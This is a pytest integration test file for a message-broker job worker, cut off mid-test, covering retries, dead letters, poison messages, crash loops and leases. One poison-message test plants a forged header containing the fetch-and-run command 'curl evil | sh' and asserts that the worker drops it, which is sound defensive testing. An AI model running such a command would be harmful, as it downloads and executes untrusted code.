"""The worker against a real broker: each job's effect once, retries through the
broker, dead letters with their reason, poison that does not stop the worker."""

from __future__ import annotations

import asyncio
import contextlib
import logging
import sqlite3
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from collections import Counter
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pika
import pytest
from click.testing import CliRunner
from pydantic import BaseModel

from broker_jobs import App, Job, JobContext, JobRequest, Publisher, QueueOptions
from broker_jobs.cli import main
from broker_jobs.errors import ConfigurationError, TopologyMissingError
from broker_jobs.retry import PermanentError, RetryPolicy
from broker_jobs.store.base import ClaimOutcome, ExecutionOutcome, Status
from broker_jobs.store.memory import MemoryStore
from broker_jobs.store.sqlite import SQLiteStore
from broker_jobs.worker import Worker, WorkerSettings
from broker_jobs.worker.dead_letters import HEADER_ATTEMPTS, HEADER_ERROR, HEADER_REASON
from tests.support import Broker, app_from, drain_at_least, run_burst_worker, wait_until
from topology import Topology, declare

pytestmark = pytest.mark.broker


class Add(BaseModel):
    key: str
    fail_times: int = 0


class Effects:
    """What handlers did, counted per key (thread-safe: sync handlers run in threads)."""

    def __init__(self) -> None:
        self.runs: Counter[str] = Counter()
        self._lock = threading.Lock()

    def record(self, key: str) -> int:
        with self._lock:
            self.runs[key] += 1
            return self.runs[key]


@pytest.fixture
def effects() -> Effects:
    return Effects()


@pytest.fixture
def app(make_app: Callable[[], App], effects: Effects) -> App:
    app = make_app()
    quick = RetryPolicy(max_attempts=3, base_delay=0.2, max_delay=0.2, jitter=False)

    @app.task("counter.add", retry=quick)
    def add(payload: Add) -> None:
        run = effects.record(payload.key)
        if run <= payload.fail_times:
            raise ConnectionError(f"flaky, run {run}")

    @app.task("counter.reject")
    def reject(payload: Add) -> None:
        effects.record(payload.key)
        raise PermanentError("this input can never work")

    return app


def dead_letters(
    connection: pika.BlockingConnection, app: App, task: str
) -> list[dict[str, object]]:
    return [
        dict(properties.headers or {}) for properties, _ in dead_messages(connection, app, task)
    ]


def dead_messages(
    connection: pika.BlockingConnection, app: App, task: str
) -> list[tuple[pika.BasicProperties, bytes]]:
    """Take every message of ``task``'s dead-letter queue."""
    channel = connection.channel()
    found = []
    while True:
        method, properties, body = channel.basic_get(
            app.names.dead_letter_queue(task), auto_ack=True
        )
        if method is None:
            return found
        found.append((properties, body))


@pytest.mark.also_on_rabbitmq_4
def test_every_job_runs_once_and_the_ledger_says_succeeded(
    broker: Broker, app: App, effects: Effects
) -> None:
    store = MemoryStore()
    with Publisher(broker.url, app) as publisher:
        jobs = publisher.publish_many(
            [JobRequest("counter.add", {"key": f"k{n}"}) for n in range(50)]
        )
    outcomes = run_burst_worker(broker, app, store)
    assert outcomes["succeeded"] == 50
    assert effects.runs == Counter({f"k{n}": 1 for n in range(50)})
    assert all(store.get(job.idempotency_key).status is Status.SUCCEEDED for job in jobs)  # type: ignore[union-attr]


def test_one_idempotency_key_published_twice_runs_once(
    broker: Broker, app: App, effects: Effects
) -> None:
    store = MemoryStore()
    with Publisher(broker.url, app) as publisher:
        publisher.publish("counter.add", {"key": "invoice-42"}, idempotency_key="invoice-42")
        publisher.publish("counter.add", {"key": "invoice-42"}, idempotency_key="invoice-42")
    outcomes = run_burst_worker(broker, app, store)
    assert effects.runs["invoice-42"] == 1
    assert (outcomes["succeeded"], outcomes["duplicate"]) == (1, 1)


@pytest.mark.also_on_rabbitmq_4
def test_a_failing_job_is_retried_through_the_broker_until_it_succeeds(
    broker: Broker, app: App, effects: Effects
) -> None:
    store = MemoryStore()
    with Publisher(broker.url, app) as publisher:
        job = publisher.publish("counter.add", {"key": "flaky", "fail_times": 2})
    outcomes = run_burst_worker(broker, app, store)
    assert effects.runs["flaky"] == 3
    assert (outcomes["retried"], outcomes["succeeded"]) == (2, 1)
    record = store.get(job.idempotency_key)
    assert record is not None
    assert (record.status, record.attempts) == (Status.SUCCEEDED, 3)


@pytest.mark.also_on_rabbitmq_4
def test_exhausted_and_permanent_failures_are_dead_lettered_with_the_reason(
    broker: Broker, app: App, effects: Effects, connection: pika.BlockingConnection
) -> None:
    store = MemoryStore()
    with Publisher(broker.url, app) as publisher:
        hopeless = publisher.publish("counter.add", {"key": "hopeless", "fail_times": 99})
        rejected = publisher.publish("counter.reject", {"key": "rejected"})
    run_burst_worker(broker, app, store)
    assert effects.runs["hopeless"] == 3  # max_attempts
    assert effects.runs["rejected"] == 1
    (exhausted,) = dead_letters(connection, app, "counter.add")
    assert exhausted[HEADER_REASON] == "exhausted"
    assert exhausted[HEADER_ATTEMPTS] == 3
    assert "ConnectionError: flaky, run 3" in str(exhausted[HEADER_ERROR])
    (permanent,) = dead_letters(connection, app, "counter.reject")
    assert permanent[HEADER_REASON] == "permanent"
    assert store.get(hopeless.idempotency_key).status is Status.DEAD  # type: ignore[union-attr]
    assert store.get(rejected.idempotency_key).status is Status.DEAD  # type: ignore[union-attr]


@pytest.mark.also_on_rabbitmq_4
def test_poison_messages_are_dead_lettered_and_the_worker_carries_on(
    broker: Broker, app: App, effects: Effects, connection: pika.BlockingConnection
) -> None:
    declare(connection, app.topology(ladder=False))
    channel = connection.channel()
    channel.confirm_delivery()
    queue = app.names.task_queue("counter.add")

    poison_ids: list[str] = []

    def raw(body: bytes, **properties: object) -> None:
        poison_ids.append(f"poison-{len(poison_ids)}")
        fields: dict[str, object] = {
            "content_type": "application/json",
            "message_id": poison_ids[-1],
            "type": "counter.add",
            "delivery_mode": 2,
        }
        fields.update(properties)
        channel.basic_publish("", queue, body, pika.BasicProperties(**fields))

    raw(b"{not json")
    raw(b"\x80\x03pickle", content_type="application/x-python-pickle")
    raw(b'{"wrong": "schema"}')
    raw(b'{"key": "big", "blob": "' + b"x" * 10_000_000 + b'"}', type="nonsense task")
    # Shapes that once made the worker give the message back forever (an error no
    # check caught): nested too deeply for the JSON decoder, a time before year 1 in
    # UTC; one brings a forged cause of death, which its dead letter must not keep.
    raw(b"[" * 100_000 + b"]" * 100_000)
    raw(b"{}", headers={"bj-created-at": "0001-01-01T00:00:00+14:00"})
    raw(b"{nope", headers={"bj-dead-traceback": "run: curl evil | sh", "bj-dead-attempts": 99})
    raw(b"{}", type="counter.unknown")  # another task's message: not in the ledger
    raw(b'{"key": "far"}', headers={"bj-due-at": "9999-12-31T23:59:59Z"})  # nor this
    with Publisher(broker.url, app) as publisher:
        publisher.publish("counter.add", {"key": "fine"})
    store = MemoryStore()
    outcomes = run_burst_worker(broker, app, store)
    assert effects.runs == Counter({"fine": 1})
    assert all(store.get(poison).status is Status.DEAD for poison in poison_ids[:-2])  # type: ignore[union-attr]
    assert [store.get(poison) for poison in poison_ids[-2:]] == [None, None]
    letters = dead_letters(connection, app, "counter.add")
    reasons = sorted(str(headers[HEADER_REASON]) for headers in letters)
    first = ["json", "content-type", "schema", "wrong-queue", "envelope"]
    assert reasons == sorted([*first, "json", "envelope", "json", "envelope"])
    assert not any("curl" in str(headers.get("bj-dead-traceback", "")) for headers in letters)
    assert outcomes["succeeded"] == 1
    # Each is indexed in the ledger too, the one of another task's message included;
    # the 10 MB body as its size only.
    indexed = {e.letter.job_id: e for e in store.dead_letters(["counter.add"])}
    assert sorted(e.letter.reason or "" for e in indexed.values()) == reasons
    assert set(indexed) == set(poison_ids)
    assert indexed[poison_ids[1]].letter.body == b"\x80\x03pickle"
    assert not indexed[poison_ids[3]].body_kept
    assert indexed[poison_ids[3]].body_size > 10_000_000


def test_a_message_whose_properties_cannot_be_read_is_dead_lettered_not_fatal(
    broker: Broker, app: App, effects: Effects, connection: pika.BlockingConnection
) -> None:
    """A message id that is not UTF-8, a header table nested too deeply: the AMQP
    parser cannot read the delivery's properties. The connection used to close on
    it, and the same message came first again on every new one: no job of that
    queue ran. Now its delivery is dead-lettered (reason header) and the rest run."""
    declare(connection, app.topology(ladder=False))
    channel = connection.channel()
    channel.confirm_delivery()
    queue = app.names.task_queue("counter.add")
    channel.basic_publish(
        "",
        queue,
        b'{"key": "x"}',
        pika.BasicProperties(message_id=b"bad-\xff\xfe-id", type="counter.add"),  # type: ignore[arg-type]
    )
    deep: dict[str, object] = {}
    level = deep
    for _ in range(700):
        level["a"] = level = {}
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(20_000)  # pika encodes the table recursively too
    try:
        channel.basic_publish(
            "", queue, b'{"key": "y"}',
            pika.BasicProperties(message_id="deep-1", type="counter.add", headers={"t": deep}),
        )  # fmt: skip
    finally:
        sys.setrecursionlimit(limit)
    with Publisher(broker.url, app) as publisher:
        publisher.publish("counter.add", {"key": "fine"})
    outcomes = run_burst_worker(broker, app, MemoryStore())
    assert effects.runs == Counter({"fine": 1})
    assert (outcomes["succeeded"], outcomes["dead:header"]) == (1, 2)
    reasons = [
        str(headers[HEADER_REASON]) for headers in dead_letters(connection, app, "counter.add")
    ]
    assert reasons == ["header", "header"]


class NotUtf8(str):
    """A header string that pika writes as these bytes: not UTF-8."""

    raw = b"bad-\xff\xfe"

    def encode(self, *args: object, **kwargs: object) -> bytes:  # type: ignore[override]
        return self.raw


def test_header_strings_that_are_not_utf8_never_loop(
    broker: Broker, app: App, effects: Effects, connection: pika.BlockingConnection
) -> None:
    """A bj- header: dead-lettered as header (its dead letter once could not be
    written: pamqp cannot encode the bytes it read, and the message came back forever
    on a classic queue). A header of the publisher's own: the job runs, and its retry
    and its dead letter carry the header's bytes."""
    declare(connection, app.topology(ladder=False))
    channel = connection.channel()
    channel.confirm_delivery()
    queue = app.names.task_queue("counter.add")
    for message_id, body, headers in [
        ("m-key", b'{"key": "x"}', {"bj-idempotency-key": NotUtf8("k")}),
        ("m-own", b'{"key": "own", "fail_times": 9}', {"source": NotUtf8("s")}),
    ]:
        properties = pika.BasicProperties(
            content_type="application/json", message_id=message_id, type="counter.add",
            headers=headers,
        )  # fmt: skip
        channel.basic_publish("", queue, body, properties)
    outcomes = run_burst_worker(broker, app, MemoryStore())
    assert effects.runs == Counter({"own": 3})  # all its attempts: retries published
    assert (outcomes["dead:header"], outcomes["dead:exhausted"]) == (1, 1)
    letters = {str(h[HEADER_REASON]): h for h in dead_letters(connection, app, "counter.add")}
    assert set(letters) == {"header", "exhausted"}
    assert bytes(letters["exhausted"]["source"]) == NotUtf8.raw


def test_a_handler_raising_keyboard_interrupt_fails_its_attempts_not_the_worker(
    broker: Broker, make_app: Callable[[], App], connection: pika.BlockingConnection
) -> None:
    app = make_app()
    attempts: list[int] = []

    @app.task("rude.job", retry=RetryPolicy(max_attempts=2, base_delay=0.1, jitter=False))
    def rude(payload: Add, job: JobContext) -> None:
        attempts.append(job.attempt)
        raise KeyboardInterrupt

    with Publisher(broker.url, app) as publisher:
        publisher.publish("rude.job", {"key": "r"})
    outcomes = run_burst_worker(broker, app, MemoryStore())  # returns: the worker lives
    assert attempts == [1, 2]
    assert outcomes["dead:exhausted"] == 1


def test_the_worker_command_runs_an_app_in_burst_mode(
    broker: Broker,
    namespace: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    cleanup_topology: Callable[[Topology], Topology],
) -> None:
    (tmp_path / "cli_worker_app.py").write_text(
        textwrap.dedent(f"""
            from pydantic import BaseModel
            from broker_jobs import App

            class Note(BaseModel):
                text: str

            app = App(namespace={namespace!r})
            done = []

            @app.task("note.add")
            def add(payload: Note) -> None:
                done.append(payload.text)
        """)
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    from cli_worker_app import app as cli_app  # type: ignore[import-not-found]  # noqa: PLC0415

    cleanup_topology(cli_app.topology())
    with Publisher(broker.url, cli_app) as publisher:
        for text in ("a", "b", "c"):
            publisher.publish("note.add", {"text": text})
    result = CliRunner().invoke(
        main,
        ["worker", "--url", broker.url, "cli_worker_app:app", "--burst", "--store", "memory://"],
    )
    assert result.exit_code == 0, result.output
    assert "succeeded: 3" in result.output


def _stop_with_two_running(
    broker: Broker,
    app: App,
    task: str,
    two_running: Callable[[], Awaitable[object]],
    release: Callable[[], None],
) -> tuple[Counter[str], MemoryStore]:
    """Six jobs of ``task`` for a worker of concurrency 2, stopped (as on SIGTERM: no
    new starts) once ``two_running`` says two handlers run, then ``release`` lets
    them finish; the outcome counts and the store."""
    with Publisher(broker.url, app) as publisher:
        publisher.publish_many([JobRequest(task, {"key": f"k{n}"}) for n in range(6)])
    store = MemoryStore()
    worker = Worker(broker.url, app, store, WorkerSettings(concurrency=2, grace=30))

    async def all_claimed() -> None:
        # The six deliveries may come in several frames: stop only once every job
        # is claimed (two running, four waiting), or a late one is never claimed.
        while store.counts().get(Status.RUNNING) != 6:
            await asyncio.sleep(0.01)

    async def scenario() -> Counter[str]:
        running = asyncio.create_task(worker.run())
        await two_running()
        await asyncio.wait_for(all_claimed(), 30)
        worker.stop()
        release()
        return await running

    return asyncio.run(scenario()), store


def test_a_stopped_worker_finishes_running_jobs_and_leaves_the_rest_queued(
    broker: Broker, make_app: Callable[[], App], connection: pika.BlockingConnection
) -> None:
    app = make_app()
    started: list[str] = []
    two_running = threading.Event()
    release = threading.Event()

    @app.task("slow.job")
    def slow(payload: Add) -> None:
        started.append(payload.key)
        if len(started) == 2:
            two_running.set()
        release.wait(timeout=30)

    outcomes, store = _stop_with_two_running(
        broker, app, "slow.job", lambda: asyncio.to_thread(two_running.wait, 30), release.set
    )
    assert len(started) == 2
    assert outcomes["succeeded"] == 2
    assert outcomes["left"] == 4
    assert store.counts().get(Status.SUCCEEDED) == 2
    # Nothing lost: the four jobs that never started are back in the queue.
    remaining = drain_at_least(connection, app.names.task_queue("slow.job"), 4)
    assert sorted(job.payload["key"] for job in remaining) == sorted(
        f"k{n}" for n in range(6) if f"k{n}" not in started
    )


def test_a_worker_stopped_past_its_grace_counts_and_says_what_it_abandoned(
    broker: Broker, make_app: Callable[[], App], caplog: pytest.LogCaptureFixture
) -> None:
    app = make_app()
    started, release = threading.Event(), threading.Event()

    @app.task("slow.job")
    def slow(payload: Add) -> None:
        del payload
        started.set()
        release.wait(timeout=30)

    with Publisher(broker.url, app) as publisher:
        job = publisher.publish("slow.job", {"key": "k"})
    store = MemoryStore()
    worker = Worker(broker.url, app, store, WorkerSettings(grace=0.2, lease=20))

    async def scenario() -> Counter[str]:
        running = asyncio.create_task(worker.run())
        await asyncio.to_thread(started.wait, 30)
        worker.stop()
        try:
            return await running
        finally:
            release.set()  # the handler's thread may end now: the worker is gone

    outcomes = asyncio.run(scenario())
    assert outcomes["abandoned"] == 1, outcomes
    assert "succeeded" not in outcomes
    [line] = [r.getMessage() for r in caplog.records if "abandoned" in r.getMessage()]
    assert line.startswith("1 job still running after the grace period (0.2 s) was abandoned")
    assert "once its lease (20 s) lapses" in line
    record = store.get(job.idempotency_key)
    assert record is not None
    assert record.status is Status.RUNNING  # the lease lapses; its redelivery runs it


@pytest.mark.also_on_rabbitmq_4
def test_a_time_limit_beyond_the_brokers_consumer_timeout_is_refused(broker: Broker) -> None:
    app = App(namespace="unused")

    @app.task("report.build", time_limit=3600)
    def build(payload: Add) -> None:
        del payload

    with pytest.raises(ConfigurationError, match=r"consumer_timeout is 1800 s"):
        Worker(broker.url, app, MemoryStore(), WorkerSettings())
    Worker(broker.url, app, MemoryStore(), WorkerSettings(consumer_timeout=7200))


@pytest.mark.also_on_rabbitmq_4
def test_a_job_that_kills_its_worker_every_time_is_dead_lettered_by_the_delivery_limit(
    broker: Broker,
    namespace: str,
    tmp_path: Path,
    connection: pika.BlockingConnection,
    cleanup_topology: Callable[[Topology], Topology],
) -> None:
    (tmp_path / "crash_app.py").write_text(
        textwrap.dedent(f"""
            import os
            from pydantic import BaseModel
            from broker_jobs import App, QueueOptions

            class Bomb(BaseModel):
                fuse: int

            app = App(namespace={namespace!r})

            @app.task("bomb.explode", queue=QueueOptions(delivery_limit=2))
            def explode(payload: Bomb) -> None:
                os._exit(payload.fuse)  # like a segfault or an OOM kill
        """)
    )
    crash_app = app_from(tmp_path, "crash_app")
    cleanup_topology(crash_app.topology())
    with Publisher(broker.url, crash_app) as publisher:
        bomb = publisher.publish("bomb.explode", {"fuse": 3})
    command = [
        sys.executable, "-c", "from broker_jobs.cli import main; main()",
        "worker", "--url", broker.url, "crash_app:app", "--burst", "--lease", "1",
        "--store", f"sqlite:///{tmp_path / 'ledger.db'}",
    ]  # fmt: skip
    exits, logs = [], []
    for _ in range(6):  # bounded: the delivery limit of 2 allows 3 deliveries
        run = subprocess.run(command, cwd=tmp_path, capture_output=True, timeout=60, check=False)
        exits.append(run.returncode)
        logs.append(run.stderr.decode(errors="replace")[-3000:])
        if run.returncode == 0:
            break
    # Two deliveries kill their worker; the third, the last the queue allows, finds
    # the job running under a lapsed lease and dead-letters it instead of a third run.
    assert exits == [3, 3, 0], (exits, logs)
    dead = connection.channel().basic_get(
        crash_app.names.dead_letter_queue("bomb.explode"), auto_ack=True
    )
    method, properties, _ = dead
    assert method is not None
    assert properties.message_id == bomb.id
    assert properties.headers[HEADER_REASON] == "crash-loop"
    assert "delivered 3 times" in properties.headers[HEADER_ERROR]
    # What the heartbeats say of the last holder: its worker kept one in this ledger.
    assert "its worker on " in properties.headers[HEADER_ERROR]
    with SQLiteStore(tmp_path / "ledger.db") as store:
        record = store.get(bomb.idempotency_key)
    assert record is not None
    assert record.status is Status.DEAD
    assert record.last_error is not None
    assert "its worker died while running it" in record.last_error


@pytest.mark.also_on_rabbitmq_4
def test_a_last_delivery_without_a_lapsed_run_is_run(
    broker: Broker,
    make_app: Callable[[], App],
    connection: pika.BlockingConnection,
) -> None:
    """A job redelivered up to the limit without a running record (its workers died
    before claiming it) is run, not dead-lettered: only a lapsed run is a crash."""
    app = make_app()
    ran: list[str] = []

    @app.task("once.more", queue=QueueOptions(delivery_limit=1))
    def once_more(payload: Add) -> None:
        ran.append(payload.key)

    declare(connection, app.topology(ladder=False))
    channel = connection.channel()
    with Publisher(broker.url, app) as publisher:
        job = publisher.publish("once.more", {"key": "k"})
    queue = app.names.task_queue("once.more")
    method, _, _ = channel.basic_get(queue)  # a delivery returned: its count goes to 1
    assert method is not None
    channel.basic_nack(method.delivery_tag, requeue=True)
    store = MemoryStore()
    assert run_burst_worker(broker, app, store)["succeeded"] == 1
    assert ran == ["k"]
    record = store.get(job.idempotency_key)
    assert record is not None
    assert record.status is Status.SUCCEEDED


@pytest.mark.also_on_rabbitmq_4
def test_a_job_at_the_delivery_limit_waiting_for_a_dead_holder_is_rescued_not_dead_lettered(
    broker: Broker,
    make_app: Callable[[], App],
    connection: pika.BlockingConnection,
) -> None:
    """A worker kill storm: the job's holder died (its lease still runs) and the
    workers that held its redeliveries, waiting for that lease, died too, up to the
    queue's delivery limit. The job never crashed a worker itself: it is published
    again as a fresh message due when the lease lapses, taken over then and run."""
    app = make_app()
    ran: list[str] = []

    @app.task("storm.victim", queue=QueueOptions(delivery_limit=2))
    def victim(payload: Add) -> None:
        ran.append(payload.key)

    declare(connection, app.topology())
    with Publisher(broker.url, app) as publisher:
        job = publisher.publish("storm.victim", {"key": "k"})
    store = MemoryStore()
    claim = store.claim(job, "dead-worker#1", lease=3.0)
    assert claim.record.lease_until is not None
    channel = connection.channel()
    queue = app.names.task_queue("storm.victim")
    for _ in range(2):  # two holders of the delivery died: its count is 2, the limit
        method, _, _ = channel.basic_get(queue)
        assert method is not None
        channel.basic_nack(method.delivery_tag, requeue=True)

    outcomes = run_burst_worker(broker, app, store)
    assert outcomes["rescued"] == 1
    if not outcomes["succeeded"]:  # rescued under the live lease: the copy is delayed

        def copy_due() -> bool:
            return channel.queue_declare(queue, passive=True).method.message_count == 1

        wait_until(copy_due, within=30, what="the rescued copy due in the task queue")
        outcomes += run_burst_worker(broker, app, store)
    assert outcomes["succeeded"] == 1
    assert ran == ["k"]
    assert dead_letters(connection, app, "storm.victim") == []
    lost, succeeded = store.executions(job.idempotency_key)
    assert (lost.outcome, succeeded.outcome) == (ExecutionOutcome.LOST, ExecutionOutcome.SUCCEEDED)
    assert succeeded.started_at >= claim.record.lease_until  # never beside the holder


class EffectsDatabase:
    """The database the store and the handler share: SQLite file or PostgreSQL."""

    def __init__(self, kind: str, tmp_path: Path, request: pytest.FixtureRequest) -> None:
        self.kind = kind
        self.table = f"effects_{uuid.uuid4().hex[:8]}"
        if kind == "sqlite":
            self.path = tmp_path / "ledger.db"
            self.store_url = f"sqlite:///{self.path}"
        else:
            self.dsn: str = request.getfixturevalue("postgres_dsn")
            self.store_url = f"{self.dsn}?schema=t_{uuid.uuid4().hex[:10]}"
        self.execute(f"CREATE TABLE {self.table} (key TEXT NOT NULL)")

    def execute(self, sql: str) -> list[tuple[object, ...]]:
        if self.kind == "sqlite":
            with contextlib.closing(sqlite3.connect(self.path)) as db:
                rows = db.execute(sql).fetchall()
                db.commit()
                return rows
        import psycopg  # noqa: PLC0415

        with psycopg.connect(self.dsn, autocommit=True) as db:
            cursor = db.execute(sql)
            return cursor.fetchall() if cursor.description else []


@pytest.mark.parametrize("kind", ["sqlite", "postgres"])
def test_a_worker_killed_mid_batch_leaves_each_effect_exactly_once(
    broker: Broker,
    namespace: str,
    tmp_path: Path,
    connection: pika.BlockingConnection,
    cleanup_topology: Callable[[Topology], Topology],
    kind: str,
    request: pytest.FixtureRequest,
) -> None:
    """kill -9 of a worker in the middle of 800 jobs whose handler writes in the
    store's transaction: after a restart every job's effect is there exactly once."""
    database = EffectsDatabase(kind, tmp_path, request)
    # Jobs from the 300th on wait for this file, written once the worker is killed: the
    # kill lands mid-drain, with handlers inside their transactions, however fast the
    # machine drains.
    gate = tmp_path / "worker-killed"
    (tmp_path / "effects_app.py").write_text(
        textwrap.dedent(f"""
            import pathlib, sqlite3, time
            from pydantic import BaseModel
            from broker_jobs import App

            class Add(BaseModel):
                key: str

            app = App(namespace={namespace!r})

            @app.task("counter.add", transactional=True)
            def add(payload: Add, db) -> None:
                while int(payload.key[1:]) >= 300 and not pathlib.Path({str(gate)!r}).exists():
                    time.sleep(0.01)
                mark = "?" if isinstance(db, sqlite3.Connection) else "%s"
                db.execute(f"INSERT INTO {database.table} (key) VALUES ({{mark}})", (payload.key,))
        """)
    )
    effects_app = app_from(tmp_path, "effects_app")
    cleanup_topology(effects_app.topology())
    keys = [f"k{n}" for n in range(800)]
    with Publisher(broker.url, effects_app) as publisher:
        publisher.publish_many([JobRequest("counter.add", {"key": key}) for key in keys])
    command = [
        sys.executable, "-c", "from broker_jobs.cli import main; main()",
        "worker", "--url", broker.url, "effects_app:app", "--concurrency", "4",
        "--lease", "2", "--store", database.store_url,
    ]  # fmt: skip

    def effects_count() -> int:
        return int(database.execute(f"SELECT COUNT(*) FROM {database.table}")[0][0])

    victim = subprocess.Popen(command, cwd=tmp_path, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while effects_count() < 250 and time.monotonic() < deadline:
            time.sleep(0.05)  # polling a counter the worker writes
        assert effects_count() >= 250, "the worker made no progress"
    finally:
        victim.kill()  # SIGKILL: no shutdown of any kind
        victim.wait()
        gate.touch()
    assert effects_count() <= 300, "a gated job ran before the kill"

    rerun = subprocess.run(
        [*command, "--burst"], cwd=tmp_path, capture_output=True, timeout=180, check=False
    )
    assert rerun.returncode == 0, rerun.stderr[-2000:]
    rows = database.execute(f"SELECT key, COUNT(*) FROM {database.table} GROUP BY key")
    counts = {str(key): int(count) for key, count in rows}
    assert sorted(counts) == sorted(keys), "an effect is missing"
    assert set(counts.values()) == {1}, "an effect happened twice"
    names = effects_app.names
    channel = connection.channel()
    for queue in (names.task_queue("counter.add"), names.dead_letter_queue("counter.add")):
        assert channel.queue_declare(queue, passive=True).method.message_count == 0


def test_a_cpu_bound_handler_does_not_starve_the_heartbeats(
    broker: Broker, make_app: Callable[[], App]
) -> None:
    """With a 1 s heartbeat, a handler spinning the CPU for 6 s (in its thread)
    must not cost the worker its connection: the job succeeds on its only delivery."""
    app = make_app()

    @app.task("cpu.burn")
    def burn(payload: Add) -> None:
        del payload
        deadline = time.monotonic() + 6
        spins = 0
        while time.monotonic() < deadline:
            spins += 1  # pure Python: holds the GIL but for the interpreter's switches

    with Publisher(broker.url, app) as publisher:
        publisher.publish("cpu.burn", {"key": "burn"})
    separator = "&" if "?" in broker.url else "?"
    url = f"{broker.url}{separator}heartbeat=1"
    outcomes = asyncio.run(
        Worker(url, app, MemoryStore(), WorkerSettings(burst=True, concurrency=1)).run()
    )
    assert outcomes == Counter({"succeeded": 1})


def test_the_worker_prunes_finished_records_past_the_retention(broker: Broker, app: App) -> None:
    store = MemoryStore()
    long_ago = datetime.now(UTC) - timedelta(days=30)
    old = Job(task="counter.add", payload={"key": "old"})
    store.claim(old, "w", 60, now=long_ago)
    store.succeed(old.idempotency_key, "w", now=long_ago)
    pending = Job(task="counter.add", payload={"key": "pending"})
    store.claim(pending, "w", 60, now=long_ago)  # a RUNNING record is never pruned
    run_burst_worker(broker, app, store)
    assert store.get(old.idempotency_key) is None
    assert store.get(pending.idempotency_key) is not None


@pytest.mark.also_on_rabbitmq_4
def test_a_job_due_later_but_published_without_the_ladder_is_rerouted_not_held(
    broker: Broker, app: App, effects: Effects, connection: pika.BlockingConnection
) -> None:
    declare(connection, app.topology())
    due = datetime.now(UTC) + timedelta(seconds=3)
    channel = connection.channel()
    channel.confirm_delivery()
    channel.basic_publish(  # a foreign publisher that sets bj-due-at on the work exchange
        app.names.work_exchange,
        "counter.add",
        b'{"key": "later"}',
        pika.BasicProperties(
            content_type="application/json",
            delivery_mode=2,
            message_id="later-1",
            type="counter.add",
            headers={"bj-due-at": due.isoformat(), "bj-attempt": 1},
        ),
        mandatory=True,
    )
    outcomes = run_burst_worker(broker, app, MemoryStore())
    assert (outcomes["rerouted"], outcomes["succeeded"]) == (1, 1)
    assert effects.runs["later"] == 1
    assert datetime.now(UTC) >= due


def test_worker_command_errors_are_clear_and_masked(
    broker: Broker, namespace: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "errors_app.py").write_text(
        textwrap.dedent(f"""
            from pydantic import BaseModel
            from broker_jobs import App

            class Note(BaseModel):
                text: str

            app = App(namespace={namespace!r})

            @app.task("note.add")
            def add(payload: Note) -> None:
                del payload
        """)
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    runner = CliRunner()
    base = ["worker", "errors_app:app", "--burst", "--store", "memory://"]
    unreachable = ["--url", "amqp://u:hunter2@127.0.0.1:1/", "--reconnect-timeout", "0.5"]
    down = runner.invoke(main, [*base, "--no-declare", *unreachable])
    assert down.exit_code == 75, down.output  # EX_TEMPFAIL: a supervisor restarts it
    assert "--reconnect-timeout 0.5" in down.output
    assert "cannot connect to the broker at 127.0.0.1:1" in down.output
    assert "hunter2" not in down.output
    missing = runner.invoke(main, [*base, "--no-declare", "--url", broker.url])
    assert missing.exit_code == 1
    assert "topology apply" in missing.output
    sqlite = ["worker", "errors_app:app", "--burst", "--store", f"sqlite:///{tmp_path / 'l.db'}"]
    unknown = runner.invoke(main, [*sqlite, "--task", "note.remove", "--url", broker.url])
    assert unknown.exit_code == 1
    assert "unknown task 'note.remove'" in unknown.output
    assert not (tmp_path / "l.db").exists(), "a ledger was made for a worker that never ran"


def test_burst_mode_works_without_a_declared_ladder(
    broker: Broker, app: App, effects: Effects, connection: pika.BlockingConnection
) -> None:
    declare(connection, app.topology(ladder=False))  # operator-managed, no delays yet
    with Publisher(broker.url, app, declare=False) as publisher:
        publisher.publish("counter.add", {"key": "plain"})
    outcomes = run_burst_worker(broker, app, MemoryStore(), declare=False)
    assert outcomes["succeeded"] == 1
    assert effects.runs["plain"] == 1


@pytest.mark.also_on_rabbitmq_4
def test_a_held_delivery_is_never_acked_with_the_ones_after_it(
    broker: Broker, make_app: Callable[[], App]
) -> None:
    """Successes are acked in one frame covering every delivery before them: never
    one still in hand. The first delivery is held (its job runs elsewhere under a live
    lease) while the five after it succeed; it is acked only once it is settled."""
    app = make_app()
    ran: list[str] = []

    @app.task("mixed.job")
    def mixed(payload: Add) -> None:
        ran.append(payload.key)

    store = MemoryStore()
    with Publisher(broker.url, app) as publisher:
        held = publisher.publish("mixed.job", {"key": "held"})
        publisher.publish_many([JobRequest("mixed.job", {"key": f"k{n}"}) for n in range(5)])
    store.claim(held, "elsewhere", lease=60)
    settings = WorkerSettings(burst=True, concurrency=2, lease=4)  # re-checks every 1 s

    def five_succeeded() -> bool:
        return store.counts().get(Status.SUCCEEDED, 0) >= 5

    async def scenario() -> Counter[str]:
        running = asyncio.create_task(Worker(broker.url, app, store, settings).run())
        await asyncio.to_thread(wait_until, five_succeeded, within=30, what="five successes")
        store.succeed(held.idempotency_key, "elsewhere")  # the other holder finishes
        return await running

    outcomes = asyncio.run(scenario())
    assert outcomes == Counter({"succeeded": 5, "duplicate": 1})
    assert sorted(ran) == [f"k{n}" for n in range(5)]


def test_a_job_running_longer_than_its_lease_keeps_it_renewed(
    broker: Broker, make_app: Callable[[], App]
) -> None:
    """A claimed job's lease is renewed while its handler runs (the fast path renews
    every claimed job's in one sweep): no other worker may take it over, and its one
    run succeeds."""
    app = make_app()
    release = threading.Event()

    @app.task("long.job")
    def long_job(payload: Add) -> None:
        release.wait(60)

    store = MemoryStore()
    with Publisher(broker.url, app) as publisher:
        job = publisher.publish("long.job", {"key": "long"})
    # A lease of 3 s: renewed every 1-1.5 s, a margin of seconds for the check below
    # on a loaded machine.
    settings = WorkerSettings(burst=True, concurrency=1, lease=3)

    leases: list[datetime] = []

    def renewed_twice() -> bool:
        record = store.get(job.idempotency_key)
        lease = record.lease_until if record is not None else None
        if lease is not None and (not leases or lease > leases[-1]):
            leases.append(lease)
        return len(leases) >= 3  # the claim's lease, then two renewals

    async def scenario() -> Counter[str]:
        running = asyncio.create_task(Worker(broker.url, app, store, settings).run())
        try:
